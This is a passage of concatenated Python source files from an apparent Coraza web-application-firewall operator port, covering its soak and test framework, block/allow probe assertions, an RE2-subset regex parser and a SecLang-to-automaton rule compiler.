            "unresolved": max(0, admitted - resolved),
            "events_emitted": emitted,
            "events_expected": (self.monitor.attempts["inspect"]
                                + self.monitor.attempts["stream_begin"]),
            "streams_exported": sum(s["streams_exported_total"]
                                    for s in snaps.values()),
            "streams_imported": sum(s["streams_imported_total"]
                                    for s in snaps.values()),
            "placement_epoch": rsnap["placement_epoch"],
            "failovers": fm["fleet_failovers_total"],
            "retries": fm["fleet_retries_total"],
            "streams_handed_off": fm["fleet_streams_handed_off_total"],
            "router_events": rsnap["router_events"],
            "diff": diff,
            "faults_fired": {k: v for k, v in self.fault.fired.items()
                             if v},
            "violations": violations,
            "ok": ok,
        }


def run_fleet_soak(**kw) -> dict:
    """One-call fleet-soak entry for tools/waf_soak.py and the chaos
    tests (tests/test_resilience.py::TestFleetChaos)."""
    return FleetSoakRunner(**kw).run()
