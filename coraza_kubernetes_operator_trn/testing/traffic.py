"""GatewayProxy: HTTP probing with block/allow assertions (reference:
test/framework/traffic.go:48-267 — the 403-on-block / 200-on-allow
contract, with the explicit "assert 200, not just not-403" rationale at
traffic.go:114-120: a clean request that errors for an unrelated reason
must fail the test, not pass it).
"""

from __future__ import annotations

import base64
import json
import urllib.error
import urllib.request


class GatewayProxy:
    """Drives a sidecar's /inspect surface the way a gateway filter would:
    the verdict decides blocked (403 local reply) vs forwarded (200)."""

    def __init__(self, port: int, namespace: str, instance: str):
        self.base = f"http://127.0.0.1:{port}"
        self.tenant = f"{namespace}/{instance}"

    def inspect(self, path: str = "/", method: str = "GET",
                headers: list[tuple[str, str]] | None = None,
                body: bytes = b"") -> dict:
        payload: dict = {"method": method, "uri": path,
                         "headers": [list(h) for h in (headers or [])]}
        if body:
            payload["body_b64"] = base64.b64encode(body).decode()
        req = urllib.request.Request(
            f"{self.base}/inspect/{self.tenant}",
            data=json.dumps(payload).encode(),  # lint-allow: RED001 -- client transport: the generator SENDS bodies by design
            headers={"Content-Type": "application/json"}, method="POST")
        try:
            with urllib.request.urlopen(req, timeout=30) as r:
                return json.loads(r.read())
        except urllib.error.HTTPError as e:
            raise AssertionError(
                f"inspection endpoint errored: {e.code} "
                f"{e.read()[:200]!r}") from e

    def effective_status(self, verdict: dict) -> int:
        """The status a gateway would return: the WAF's disruptive status
        when blocked, 200 (upstream reached) when allowed."""
        return 200 if verdict["allowed"] else (verdict["status"] or 403)

    # -- assertions --------------------------------------------------------
    def expect_blocked(self, path: str, **kw) -> dict:
        v = self.inspect(path, **kw)
        assert not v["allowed"], f"{path}: expected block, got allow ({v})"
        status = self.effective_status(v)
        assert status == 403, f"{path}: expected 403, got {status} ({v})"
        return v

    def expect_allowed(self, path: str, **kw) -> dict:
        v = self.inspect(path, **kw)
        # 200-not-just-"not 403": the allow path must be a clean verdict,
        # not an error that happened to skip blocking
        assert v["allowed"], f"{path}: expected allow, got {v}"
        assert self.effective_status(v) == 200
        return v

    def expect_status(self, path: str, status: int, **kw) -> dict:
        v = self.inspect(path, **kw)
        got = self.effective_status(v)
        assert got == status, f"{path}: expected {status}, got {got} ({v})"
        return v
