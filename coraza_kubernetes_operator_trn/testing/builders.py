"""Typed resource builders with defaults (reference:
test/utils/resource_builders.go:40-146, test/framework/resources.go:122-127).
"""

from __future__ import annotations

from ..controlplane import (
    ConfigMap,
    DriverConfig,
    Engine,
    EngineSpec,
    IstioDriverConfig,
    IstioWasmConfig,
    ObjectMeta,
    RuleSet,
    RuleSetCacheServerConfig,
    RuleSetReference,
    RuleSetSpec,
    RuleSourceReference,
    TrainiumDriverConfig,
)

# The canonical block/allow probe rule (reference: resources.go:122-127:
# SecRule ARGS "@contains evilmonkey" deny 403)
SimpleBlockRule = (
    'SecRuleEngine On\n'
    'SecRequestBodyAccess On\n'
    'SecRule ARGS|REQUEST_URI "@contains evilmonkey" '
    '"id:3001,phase:2,deny,status:403"\n'
)


def new_test_configmap(name: str = "test-rules", namespace: str = "default",
                       rules: str = SimpleBlockRule,
                       key: str = "rules") -> ConfigMap:
    return ConfigMap(metadata=ObjectMeta(name=name, namespace=namespace),
                     data={key: rules})


def new_test_ruleset(name: str = "test-ruleset",
                     namespace: str = "default",
                     configmaps: tuple[str, ...] = ("test-rules",)
                     ) -> RuleSet:
    return RuleSet(
        metadata=ObjectMeta(name=name, namespace=namespace),
        spec=RuleSetSpec(rules=[RuleSourceReference(c) for c in configmaps]))


def new_test_engine(name: str = "test-engine", namespace: str = "default",
                    ruleset: str = "test-ruleset",
                    driver: str = "trainium",
                    poll_interval: int = 1,
                    selector: dict | None = None,
                    failure_policy: str = "fail") -> Engine:
    selector = selector if selector is not None else {"app": "gateway"}
    cache_cfg = RuleSetCacheServerConfig(poll_interval)
    if driver == "trainium":
        dc = DriverConfig(trainium=TrainiumDriverConfig(
            workload_selector=selector, ruleset_cache_server=cache_cfg))
    else:
        dc = DriverConfig(istio=IstioDriverConfig(wasm=IstioWasmConfig(
            image="oci://ghcr.io/example/coraza-proxy-wasm:test",
            workload_selector=selector, ruleset_cache_server=cache_cfg)))
    eng = Engine(
        metadata=ObjectMeta(name=name, namespace=namespace),
        spec=EngineSpec(ruleset=RuleSetReference(ruleset), driver=dc))
    eng.spec.failure_policy = failure_policy
    return eng
