"""Integration-test framework — the reference's test/framework, trn-shaped.

Gives scenarios namespace isolation, LIFO auto-cleanup, on-failure
diagnostics, typed resource builders with defaults, condition/event
polling assertions, and an HTTP traffic prober with ExpectBlocked /
ExpectAllowed semantics (reference: test/framework/scenario.go,
resource_builders.go, traffic.go). The "cluster" is an in-process Manager
plus a real sidecar speaking HTTP — the same processes a deployment runs,
minus the kube-apiserver transport.
"""

from .builders import (
    SimpleBlockRule,
    new_test_configmap,
    new_test_engine,
    new_test_ruleset,
)
from .scenario import Scenario
from .soak import (
    ChaosSchedule,
    DifferentialReservoir,
    InvariantMonitor,
    SoakPhase,
    SoakRunner,
    SyntheticTraffic,
    run_soak,
)
from .traffic import GatewayProxy

__all__ = [
    "Scenario", "GatewayProxy", "SimpleBlockRule",
    "new_test_configmap", "new_test_engine", "new_test_ruleset",
    "ChaosSchedule", "DifferentialReservoir", "InvariantMonitor",
    "SoakPhase", "SoakRunner", "SyntheticTraffic", "run_soak",
]
