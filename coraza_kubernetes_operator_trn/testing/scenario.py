"""Scenario: namespace isolation + LIFO cleanup + failure diagnostics
(reference: test/framework/scenario.go:54-245).
"""

from __future__ import annotations

import random
import string
import sys
import time
from typing import Any, Callable

from ..controlplane.api import get_condition
from ..controlplane.manager import Manager
from ..extproc import InspectionServer, MicroBatcher, RuleSetPoller
from ..runtime.multitenant import MultiTenantEngine


def _rand_suffix(n: int = 6) -> str:
    return "".join(random.choices(string.ascii_lowercase + string.digits,
                                  k=n))


class Scenario:
    """One isolated test scenario: its own namespace, its own data-plane
    stack, resources cleaned up LIFO, diagnostics dumped on failure."""

    def __init__(self, name: str = "scenario",
                 manager: Manager | None = None):
        self.namespace = f"{name}-{_rand_suffix()}"
        self._own_manager = manager is None
        self.manager = manager or Manager(
            envoy_cluster_name="outbound|80||test", cache_server_port=0)
        if self._own_manager:
            self.manager.start()
        self._cleanups: list[Callable[[], None]] = []
        self._dataplanes: list[tuple] = []
        self.failed = False

    # -- lifecycle ---------------------------------------------------------
    def __enter__(self) -> "Scenario":
        return self

    def __exit__(self, exc_type, exc, tb) -> bool:
        if exc_type is not None:
            self.failed = True
            self.dump_diagnostics()
        self.cleanup()
        return False

    def defer(self, fn: Callable[[], None]) -> None:
        self._cleanups.append(fn)

    def cleanup(self) -> None:
        for fn in reversed(self._cleanups):
            try:
                fn()
            except Exception as exc:  # keep cleaning up
                print(f"cleanup error: {exc}", file=sys.stderr)
        self._cleanups.clear()
        if self._own_manager:
            self.manager.stop()

    # -- resource helpers --------------------------------------------------
    def create(self, obj: Any) -> Any:
        obj.metadata.namespace = self.namespace
        created = self.manager.store.create(obj)
        self.defer(lambda: self.manager.store.delete(
            obj.kind, obj.metadata.namespace, obj.metadata.name))
        return created

    def get(self, kind: str, name: str) -> Any:
        return self.manager.store.get(kind, self.namespace, name)

    def update(self, obj: Any) -> Any:
        return self.manager.store.update(obj)

    # -- data plane --------------------------------------------------------
    def start_dataplane(self, instances: list[str],
                        poll_interval: float = 0.1,
                        failure_policy: dict[str, str] | None = None
                        ) -> "InspectionServer":
        """Spin up a sidecar (engine + batcher + server + poller) bound to
        this scenario's cache server; torn down at cleanup."""
        engine = MultiTenantEngine()
        keys = [f"{self.namespace}/{name}" for name in instances]
        batcher = MicroBatcher(engine, max_batch_delay_us=200,
                               failure_policy=failure_policy or {},
                               configured=set(keys))
        server = InspectionServer(batcher, port=0)
        poller = RuleSetPoller(
            engine,
            f"http://127.0.0.1:{self.manager.cache_server.port}",
            instances={k: poll_interval for k in keys})
        server.start()
        poller.start()
        self._dataplanes.append((server, poller))
        self.defer(poller.stop)
        self.defer(server.stop)
        return server

    # -- polling assertions (reference: assertions.go, events.go) ----------
    def wait_for(self, cond: Callable[[], bool], timeout: float = 10.0,
                 msg: str = "condition") -> None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if cond():
                return
            time.sleep(0.02)
        raise AssertionError(f"timed out waiting for {msg}")

    def wait_ready(self, kind: str, name: str, timeout: float = 10.0
                   ) -> None:
        def ready() -> bool:
            obj = self.get(kind, name)
            c = obj and get_condition(obj.status.conditions, "Ready")
            return bool(c and c.status == "True")

        self.wait_for(ready, timeout, f"{kind} {name} Ready")

    def wait_degraded(self, kind: str, name: str, reason: str | None = None,
                      timeout: float = 10.0) -> None:
        def degraded() -> bool:
            obj = self.get(kind, name)
            c = obj and get_condition(obj.status.conditions, "Degraded")
            ok = bool(c and c.status == "True")
            return ok and (reason is None or c.reason == reason)

        self.wait_for(degraded, timeout, f"{kind} {name} Degraded")

    def has_event(self, type_: str, reason: str) -> bool:
        return self.manager.recorder.has_event(type_, reason)

    # -- diagnostics (reference: scenario.go:153-245) ----------------------
    def dump_diagnostics(self) -> None:
        print(f"\n=== diagnostics for {self.namespace} ===", file=sys.stderr)
        for kind in ("RuleSet", "Engine", "InspectionBinding", "ConfigMap"):
            for obj in self.manager.store.list(kind, self.namespace):
                conds = getattr(obj.status, "conditions", []) \
                    if hasattr(obj, "status") else []
                cstr = ", ".join(
                    f"{c.type}={c.status}({c.reason})" for c in conds)
                print(f"  {kind}/{obj.metadata.name}: {cstr}",
                      file=sys.stderr)
        for ev in list(self.manager.recorder.events)[-10:]:
            print(f"  event {ev.type} {ev.reason}: {ev.message}",
                  file=sys.stderr)
        print(f"  cache keys: {self.manager.cache.list_keys()}",
              file=sys.stderr)
