"""RE2-compatible regex subset parser.

The corpus constraint comes from the reference: its data plane runs on RE2,
so CRS patterns are pre-filtered to avoid lookarounds (reference:
hack/generate_coreruleset_configmaps.py:24-27). This parser accepts that
subset; anything outside raises ``UnsupportedRegex`` and the rule is routed
to the host fallback engine (exact parity preserved).

Supported: literals, escapes, char classes (incl. \\d \\w \\s and POSIX
[:alpha:] etc.), ``.``, alternation, groups (capturing ignored,
``(?:...)``, inline flags ``(?i)`` / ``(?i:...)``), quantifiers
``* + ? {n} {n,} {n,m}`` (greedy and lazy — match-existence semantics make
laziness irrelevant), anchors ``^ $ \\A \\z \\Z``, word boundaries
``\\b \\B`` (resolved in the subset construction via a last-symbol
wordness bit on DFA states).

Unsupported -> UnsupportedRegex: backreferences, lookaround,
``\\p{...}`` unicode classes, recursion, conditionals.
"""

from __future__ import annotations

from dataclasses import dataclass, field


class UnsupportedRegex(ValueError):
    """Pattern outside the device-compilable subset (host fallback).

    Carries a structured span when known: ``pattern`` is the full regex
    source and ``pos`` the 0-based character offset where parsing gave
    up — the analyzer and CompileError surface it as a fix-it location.
    """

    def __init__(self, message: str, pattern: str | None = None,
                 pos: int | None = None):
        super().__init__(message)
        self.pattern = pattern
        self.pos = pos


# --- syntax tree -----------------------------------------------------------


@dataclass
class Node:
    pass


@dataclass
class Lit(Node):
    """A set of byte values (char class or single literal byte)."""

    bytes_: frozenset[int]


@dataclass
class Dot(Node):
    """Any byte (ModSecurity compiles PCRE with DOTALL, so . includes \\n)."""


@dataclass
class Caret(Node):
    pass


@dataclass
class Dollar(Node):
    pass


@dataclass
class Assert(Node):
    """Zero-width word-boundary assertion: kind 'b' (\\b) or 'B' (\\B).

    Resolved during subset construction: the DFA state carries the
    wordness of the last consumed symbol, and BOS/EOS count as non-word
    (matching host ``re`` semantics at string edges)."""

    kind: str


@dataclass
class Concat(Node):
    parts: list[Node] = field(default_factory=list)


@dataclass
class Alt(Node):
    options: list[Node] = field(default_factory=list)


@dataclass
class Repeat(Node):
    child: Node
    lo: int
    hi: int | None  # None = unbounded


MAX_REPEAT = 256  # expansion cap; larger bounded repeats -> host fallback

_CLASS_D = frozenset(range(0x30, 0x3A))
_CLASS_W = frozenset(range(0x30, 0x3A)) | frozenset(range(0x41, 0x5B)) | \
    frozenset(range(0x61, 0x7B)) | frozenset({0x5F})
_CLASS_S = frozenset({0x20, 0x09, 0x0A, 0x0D, 0x0C, 0x0B})
_ALL = frozenset(range(256))

_POSIX = {
    "alpha": frozenset(range(0x41, 0x5B)) | frozenset(range(0x61, 0x7B)),
    "digit": _CLASS_D,
    "alnum": _CLASS_W - frozenset({0x5F}),
    "upper": frozenset(range(0x41, 0x5B)),
    "lower": frozenset(range(0x61, 0x7B)),
    "space": _CLASS_S,
    "blank": frozenset({0x20, 0x09}),
    "punct": frozenset(i for i in range(0x21, 0x7F)
                       if not chr(i).isalnum()),
    "print": frozenset(range(0x20, 0x7F)),
    "graph": frozenset(range(0x21, 0x7F)),
    "cntrl": frozenset(range(0x00, 0x20)) | frozenset({0x7F}),
    "xdigit": frozenset(b"0123456789abcdefABCDEF"),
    "word": _CLASS_W,
}


def _fold_case(bs: frozenset[int]) -> frozenset[int]:
    out = set(bs)
    for b in bs:
        if 0x41 <= b <= 0x5A:
            out.add(b + 32)
        elif 0x61 <= b <= 0x7A:
            out.add(b - 32)
    return frozenset(out)


class _Parser:
    def __init__(self, pattern: str, ignorecase: bool = False):
        self.p = pattern
        self.i = 0
        self.n = len(pattern)
        self.flags_i = ignorecase

    # -- helpers --
    def peek(self) -> str | None:
        return self.p[self.i] if self.i < self.n else None

    def next(self) -> str:
        c = self.p[self.i]
        self.i += 1
        return c

    def eat(self, c: str) -> bool:
        if self.peek() == c:
            self.i += 1
            return True
        return False

    def err(self, msg: str) -> UnsupportedRegex:
        return UnsupportedRegex(f"{msg} at pos {self.i} in {self.p!r}",
                                pattern=self.p, pos=self.i)

    # -- grammar --
    def parse(self) -> Node:
        node = self.alternation()
        if self.i < self.n:
            raise self.err(f"unexpected {self.p[self.i]!r}")
        return node

    def alternation(self) -> Node:
        opts = [self.concat()]
        while self.eat("|"):
            opts.append(self.concat())
        return opts[0] if len(opts) == 1 else Alt(opts)

    def concat(self) -> Node:
        parts: list[Node] = []
        while True:
            c = self.peek()
            if c is None or c in "|)":
                break
            parts.append(self.repeatable())
        if len(parts) == 1:
            return parts[0]
        return Concat(parts)

    def repeatable(self) -> Node:
        atom = self.atom()
        while True:
            c = self.peek()
            if c == "*":
                self.next()
                atom = Repeat(atom, 0, None)
            elif c == "+":
                self.next()
                atom = Repeat(atom, 1, None)
            elif c == "?":
                self.next()
                atom = Repeat(atom, 0, 1)
            elif c == "{":
                save = self.i
                rep = self._try_braces(atom)
                if rep is None:
                    self.i = save
                    break
                atom = rep
            else:
                break
            self.eat("?")  # lazy modifier: irrelevant for match-existence
        return atom

    def _try_braces(self, atom: Node) -> Node | None:
        # '{' already peeked
        self.next()
        lo_digits = ""
        while self.peek() and self.peek().isdigit():
            lo_digits += self.next()
        if not lo_digits:
            return None  # literal '{'
        lo = int(lo_digits)
        hi: int | None = lo
        if self.eat(","):
            hi_digits = ""
            while self.peek() and self.peek().isdigit():
                hi_digits += self.next()
            hi = int(hi_digits) if hi_digits else None
        if not self.eat("}"):
            return None
        if lo > MAX_REPEAT or (hi is not None and hi > MAX_REPEAT):
            raise self.err(f"repeat bound over {MAX_REPEAT}")
        if hi is not None and hi < lo:
            raise self.err("repeat hi < lo")
        return Repeat(atom, lo, hi)

    def atom(self) -> Node:
        c = self.peek()
        if c == "(":
            return self.group()
        if c == "[":
            return self.char_class()
        if c == ".":
            self.next()
            return Dot()
        if c == "^":
            self.next()
            return Caret()
        if c == "$":
            self.next()
            return Dollar()
        if c == "\\":
            return self.escape()
        if c in "*+?":
            raise self.err(f"dangling quantifier {c!r}")
        self.next()
        return self._lit(ord(c))

    def _lit(self, b: int) -> Lit:
        bs = frozenset({b & 0xFF})
        if self.flags_i:
            bs = _fold_case(bs)
        return Lit(bs)

    def group(self) -> Node:
        self.next()  # (
        saved_i = self.flags_i
        if self.eat("?"):
            c = self.peek()
            if c == ":":
                self.next()
            elif c in ("=", "!", "<"):
                raise self.err("lookaround not supported (RE2 subset)")
            elif c in ("i", "s", "m", "x", "-"):
                flags = ""
                while self.peek() and self.peek() in "ismx-":
                    flags += self.next()
                neg = False
                for f in flags:
                    if f == "-":
                        neg = True
                    elif f == "i":
                        self.flags_i = not neg
                    # s/m/x: DOTALL already default; multiline/verbose rare
                    elif f == "m":
                        raise self.err("multiline flag not supported")
                if self.eat(")"):
                    # global flag group (?i) — applies to rest of pattern;
                    # restore nothing
                    return Concat([])
                if not self.eat(":"):
                    raise self.err("bad flag group")
            elif c == "P" or c == "'":
                # named group (?P<name>...)
                self.next()
                if self.eat("<"):
                    while self.peek() and self.peek() != ">":
                        self.next()
                    self.eat(">")
                else:
                    raise self.err("unsupported (?P construct")
            else:
                raise self.err(f"unsupported group (?{c}")
        node = self.alternation()
        if not self.eat(")"):
            raise self.err("unbalanced group")
        self.flags_i = saved_i
        return node

    def escape(self) -> Node:
        self.next()  # backslash
        c = self.peek()
        if c is None:
            raise self.err("trailing backslash")
        self.next()
        table = {
            "d": _CLASS_D, "D": _ALL - _CLASS_D,
            "w": _CLASS_W, "W": _ALL - _CLASS_W,
            "s": _CLASS_S, "S": _ALL - _CLASS_S,
        }
        if c in table:
            return Lit(table[c])
        if c in "bB":
            return Assert(c)
        if c == "A":
            # start-of-string: identical to ^ here (no multiline mode, and
            # each value is one BOS..EOS segment)
            return Caret()
        if c in "zZ":
            # python-re semantics (the host oracle): \Z == \z == absolute
            # end of string — the EOS symbol. DELIBERATE DIVERGENCE from
            # the reference: coraza's RE2 syntax has no \Z and rejects
            # such rulesets at load time; we accept them because the host
            # oracle (python re) defines \Z, and host/device must agree.
            return Dollar()
        if c.isdigit() and c != "0":
            raise UnsupportedRegex("backreference not supported")
        if c == "p" or c == "P":
            raise UnsupportedRegex("unicode class \\p not supported")
        b = self._escape_byte(c)
        bs = frozenset({b})
        if self.flags_i:
            bs = _fold_case(bs)
        return Lit(bs)

    def _escape_byte(self, c: str) -> int:
        simple = {"n": 0x0A, "r": 0x0D, "t": 0x09, "f": 0x0C, "v": 0x0B,
                  "a": 0x07, "e": 0x1B, "0": 0x00}
        if c in simple:
            if c == "0" and self.peek() and self.peek() in "01234567":
                # \012-style octal escapes: mapping just the leading 0 to
                # NUL would build a wrong exact gate (silent bypass) —
                # host fallback instead
                raise UnsupportedRegex("octal escape not supported")
            return simple[c]
        if c == "x":
            h = ""
            if self.eat("{"):
                while self.peek() and self.peek() != "}":
                    h += self.next()
                self.eat("}")
                if not h or any(c not in "0123456789abcdefABCDEF"
                                for c in h):
                    # RE2 rejects \x{} and non-hex contents; a literal
                    # fallback would build a wrong device gate
                    raise UnsupportedRegex(f"bad \\x{{{h}}} escape")
                val = int(h, 16)
                if val > 0xFF:
                    raise UnsupportedRegex("\\x{>FF} outside byte range")
                return val
            for _ in range(2):
                if self.peek() and self.peek() in "0123456789abcdefABCDEF":
                    h += self.next()
            if not h:
                raise UnsupportedRegex("\\x with no hex digits")
            return int(h, 16)
        if c.isalnum():
            # \A \z \Z \Q \E \c... etc: RE2 gives these meanings (anchors,
            # quoting, control chars) or errors — never a literal. Treating
            # them as literals would build a WRONG device gate (silent WAF
            # bypass); route the rule to the exact host fallback instead.
            raise UnsupportedRegex(f"unsupported escape \\{c}")
        return ord(c) & 0xFF

    def char_class(self) -> Node:
        self.next()  # [
        negate = self.eat("^")
        members: set[int] = set()
        first = True
        while True:
            c = self.peek()
            if c is None:
                raise self.err("unterminated char class")
            if c == "]" and not first:
                self.next()
                break
            first = False
            if c == "[" and self.p[self.i:self.i + 2] == "[:":
                # POSIX class
                end = self.p.find(":]", self.i)
                if end == -1:
                    raise self.err("bad posix class")
                name = self.p[self.i + 2:end]
                if name not in _POSIX:
                    raise self.err(f"unknown posix class {name}")
                members |= _POSIX[name]
                self.i = end + 2
                continue
            lo = self._class_atom()
            if lo is None:  # \d etc inside class
                continue_set = self._last_class_set
                members |= continue_set
                continue
            if self.peek() == "-" and self.i + 1 < self.n and \
                    self.p[self.i + 1] != "]":
                self.next()
                hi = self._class_atom()
                if hi is None:
                    raise self.err("bad range endpoint")
                if hi < lo:
                    raise self.err("reversed char-class range")
                members |= set(range(lo, hi + 1))
            else:
                members.add(lo)
        bs = frozenset(members)
        if self.flags_i:
            bs = _fold_case(bs)
        if negate:
            bs = _ALL - bs
        return Lit(bs)

    _last_class_set: frozenset[int] = frozenset()

    def _class_atom(self) -> int | None:
        c = self.next()
        if c != "\\":
            return ord(c) & 0xFF
        e = self.next()
        table = {
            "d": _CLASS_D, "D": _ALL - _CLASS_D,
            "w": _CLASS_W, "W": _ALL - _CLASS_W,
            "s": _CLASS_S, "S": _ALL - _CLASS_S,
        }
        if e in table:
            self._last_class_set = table[e]
            return None
        if e in "bB":
            # inside a class, \b is backspace
            return 0x08
        self.i -= 1
        return self._escape_byte(self.next())


import functools


@functools.lru_cache(maxsize=4096)
def parse_regex(pattern: str, ignorecase: bool = False) -> Node:
    """Parse a pattern; raises UnsupportedRegex outside the subset.

    Memoized: compile_ruleset parses each @rx once for factor extraction
    and once for NFA construction; the cache makes the second parse free
    (trees are treated as immutable by all consumers)."""
    parser = _Parser(pattern, ignorecase)
    try:
        return parser.parse()
    except UnsupportedRegex as exc:
        if exc.pattern is None:  # raised without location (escape paths)
            exc.pattern = pattern
            exc.pos = parser.i
        raise
