"""SecLang -> device-artifact compiler.

Lowers rule operators into automata that the trn runtime can evaluate in
batch:

- ``rx``      — RE2-compatible regex subset parser -> syntax tree
- ``nfa``     — Thompson NFA over a 258-symbol alphabet (256 bytes + BOS/EOS
                for ^/$ anchors)
- ``dfa``     — subset construction with byte-class compression, absorbing
                accept (search semantics), state-count caps
- ``aho``     — Aho-Corasick automaton for @pm phrase lists and literal
                prefilters, emitted in the same table format
- ``literal`` — required-literal factor extraction for the prefilter stage
- ``compile`` — SecLang AST -> CompiledRuleSet (tables + rule programs)
- ``artifact``— content-addressed serialization (the cache server ships
                these instead of SecLang text — the trn analog of the
                reference's rules-text entries, reference:
                internal/rulesets/cache/cache.go:38-43)

Patterns outside the supported subset (backreferences, lookaround, word
boundaries) are routed to the host fallback list, preserving exact verdict
parity via the CPU engine.
"""

from .aho import build_aho_corasick  # noqa: F401
from .compile import CompiledRuleSet, compile_ruleset  # noqa: F401
from .dfa import (  # noqa: F401
    DFA,
    UnsupportedRegex,
    compile_regex_to_dfa,
    minimize_dfa,
)
