"""SecLang AST -> CompiledRuleSet: the device execution plan.

Architecture (trn-first hybrid):

- Every device-compilable rule predicate becomes a **Matcher**: one
  automaton (regex DFA, @pm Aho-Corasick, or literal-factor AC prefilter)
  plus its transformation chain and target spec.
- The device scans one lane per (request, matcher): target values are
  streamed as ``BOS v1 EOS BOS v2 EOS ...`` symbol sequences, so per-value
  ``^``/``$`` anchoring survives concatenation, and the table's EOS-reset
  (non-accepting EOS transitions land on the start state) prevents
  partial-match state leaking between values. Absorbing accept makes "any
  value matched" a single end-state check.
- ``exact=True`` matchers (DFA semantics == operator semantics) let a clean
  request skip the rule entirely — the common case and the 50x path.
  ``exact=False`` matchers (literal prefilters) only gate host confirmation.
- Everything else (negated ops, numeric ops, TX targets, macro arguments,
  unsupported transforms) stays host-evaluated; those rules are
  "always-candidates". The host engine is the exact CPU engine, so verdicts
  are bit-compatible by construction.

This replaces the reference's validate-then-concatenate reconcile step
(reference: internal/controller/ruleset_controller.go:108-182) with
validate-then-compile; the compiled artifact is what the cache distributes.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from ..seclang import parse
from ..seclang.ast import Rule, RuleSetAST, Variable
from .aho import build_aho_corasick
from .dfa import DFA, compile_regex_to_dfa
from .literal import required_factors
from .nfa import EOS
from .rx import UnsupportedRegex, parse_regex
from .screen import matcher_factors

# Transformations with exact jax implementations (ops/transforms_jax.py).
# A matcher whose chain uses anything else falls back to the host. Every
# name here is differentially tested against the host transform
# (tests/test_ops_jax.py::test_transform_differential parametrizes over
# the full JAX_TRANSFORMS registry). Expanding transforms (utf8tounicode)
# are width-budgeted by the runtime via transforms_jax.chain_expansion.
DEVICE_TRANSFORMS = {
    "none", "lowercase", "uppercase", "urldecode", "urldecodeuni",
    "htmlentitydecode", "removenulls", "replacenulls", "removewhitespace",
    "compresswhitespace", "trim", "trimleft", "trimright", "cmdline",
    "jsdecode", "cssdecode", "base64decode", "removecomments",
    "normalizepath", "normalisepath", "normalizepathwin",
    "normalisepathwin", "utf8tounicode",
}


@dataclass
class Matcher:
    """One device automaton bound to a rule predicate."""

    mid: int
    rule_id: int
    link_index: int  # 0 = chain head, 1.. = chain links
    dfa: DFA
    transforms: tuple[str, ...]
    variables: tuple[Variable, ...]
    exact: bool  # True: DFA result == operator result ("some value matches")
    operator_name: str = ""
    # screening factor set (OR semantics): the matcher can only fire if one
    # of these literals appears post-transform. None = unscreenable, its
    # lane always dispatches. Feeds the per-group union screen
    # (compiler/screen.py).
    factors: tuple[str, ...] | None = None

    @property
    def n_states(self) -> int:
        return self.dfa.n_states


@dataclass
class CompiledRuleSet:
    """The device execution plan + host program for one RuleSet."""

    ast: RuleSetAST
    text: str
    matchers: list[Matcher] = field(default_factory=list)
    # rule_id -> matcher ids ANDed to gate candidacy. Every matcher has zero
    # false negatives for its predicate, so a False bit proves the rule
    # cannot match and the host skips it entirely (the fast path).
    gate: dict[int, list[int]] = field(default_factory=dict)
    # rules with full exact coverage of every chain link (device True bits
    # imply the rule's operators all match — usable for device-only stats)
    fully_exact: set[int] = field(default_factory=set)
    # rules that must always be host-evaluated
    always_candidates: list[int] = field(default_factory=list)
    stats: dict = field(default_factory=dict)

    @property
    def n_matchers(self) -> int:
        return len(self.matchers)

    def candidate_rule_ids(self, bits: "np.ndarray") -> list[int]:
        """Host-side: matcher bit vector [n_matchers] -> candidate rules."""
        out = []
        for rid, mids in self.gate.items():
            if all(bits[m] for m in mids):
                out.append(rid)
        out.extend(self.always_candidates)
        return out


def _eos_reset(dfa: DFA) -> DFA:
    """Post-process: non-accepting EOS transitions return to the start
    state so multi-value streams reset between values."""
    table = dfa.table.copy()
    eos_cls = int(dfa.classes[EOS])
    col = table[:, eos_cls]
    if dfa.accept >= 0:
        reset = np.where(col == dfa.accept, dfa.accept, dfa.start)
    else:
        reset = np.full_like(col, dfa.start)
    # note: BOS may share a class with EOS (identity column in AC tables);
    # splitting the class keeps BOS behavior intact.
    from .nfa import BOS
    bos_cls = int(dfa.classes[BOS])
    classes = dfa.classes.copy()
    if bos_cls == eos_cls:
        new_cls = table.shape[1]
        classes[EOS] = new_cls
        table = np.concatenate([table, reset[:, None]], axis=1)
    else:
        table[:, eos_cls] = reset
    return DFA(table=table, classes=classes, start=dfa.start,
               accept=dfa.accept, pattern=dfa.pattern)


def _device_targets_ok(variables: tuple[Variable, ...]) -> bool:
    """Targets the packer can materialize as byte streams. Counts and TX
    are host-domain; everything string-valued is fine."""
    for v in variables:
        if v.count:
            return False
        if v.collection in ("TX", "MATCHED_VARS", "MATCHED_VARS_NAMES",
                            "RULE", "DURATION", "HIGHEST_SEVERITY",
                            # persistent collections mutate across the
                            # phase walk (setvar) — device snapshots
                            # could gate on stale values
                            "IP", "GLOBAL", "SESSION", "USER", "RESOURCE"):
            return False
    return True


def _rx_required_factors(op_arg: str) -> list[str] | None:
    try:
        return required_factors(parse_regex(op_arg))
    except UnsupportedRegex:
        return None


def _build_matcher_dfa(rule: Rule, op_name: str, op_arg: str
                       ) -> tuple[DFA, bool, list[str] | None] | None:
    """Returns (dfa, exact, screen_factors) or None if not
    device-compilable."""
    if "%{" in op_arg:
        return None  # macro arguments are transaction-dependent
    rx_factors = _rx_required_factors(op_arg) if op_name == "rx" else None
    factors = matcher_factors(op_name, op_arg, rx_factors)
    try:
        if op_name == "rx":
            try:
                return compile_regex_to_dfa(op_arg), True, factors
            except UnsupportedRegex:
                # prefilter path: required literal factors
                if rx_factors is None:
                    return None
                return build_aho_corasick(
                    rx_factors, case_insensitive=True,
                    pattern=f"prefilter<{op_arg[:40]}>"), False, factors
        if op_name == "pm":
            phrases = op_arg.split()
            if not phrases:
                return None
            return build_aho_corasick(
                phrases, case_insensitive=True,
                pattern=f"@pm {op_arg[:40]}"), True, factors
        if op_name in ("contains", "strmatch"):
            if not op_arg:
                return None
            return build_aho_corasick(
                [op_arg], case_insensitive=False,
                pattern=f"@contains {op_arg[:40]}"), True, factors
        if op_name == "streq":
            rx = "^" + _rx_quote(op_arg) + "$"
            return compile_regex_to_dfa(rx), True, factors
        if op_name == "beginswith":
            return compile_regex_to_dfa("^" + _rx_quote(op_arg)), True, \
                factors
        if op_name == "endswith":
            return compile_regex_to_dfa(_rx_quote(op_arg) + "$"), True, \
                factors
    except UnsupportedRegex:
        return None
    return None


def _rx_quote(lit: str) -> str:
    special = set("\\^$.[]|()*+?{}")
    return "".join("\\" + c if c in special else c for c in lit)


def compile_ruleset(text: str) -> CompiledRuleSet:
